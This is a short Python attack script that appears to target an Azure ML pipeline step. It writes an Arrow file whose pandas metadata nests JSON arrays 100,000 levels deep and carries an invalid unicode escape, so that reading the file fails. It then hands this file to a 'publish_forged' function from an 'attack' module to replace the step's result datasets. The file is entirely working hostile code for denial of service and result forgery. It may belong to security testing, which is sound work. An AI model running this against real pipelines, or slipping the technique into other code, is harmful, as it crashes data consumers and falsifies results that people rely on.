"""Swaps a result for a table whose metadata is JSON in JSON, so deep that reading it fails."""

import pyarrow
from attack import publish_forged


def hostile(path):
    deep = b'{"index_columns": ' + b"[" * 100000 + b"]" * 100000 + b', "columns": [7], "pandas_version": "\\ud800"}'
    table = pyarrow.Table.from_pydict({"x": [1]}).replace_schema_metadata({b"pandas": deep, b"transom": b"[7"})
    make = getattr(pyarrow, "RecordBatchFileWriter", None) or pyarrow.ipc.RecordBatchFileWriter
    writer = make(path, table.schema)
    writer.write_table(table)
    writer.close()


def azureml_main(dataframe1=None, dataframe2=None):
    publish_forged(result_dataset=hostile, result_dataset2=hostile)
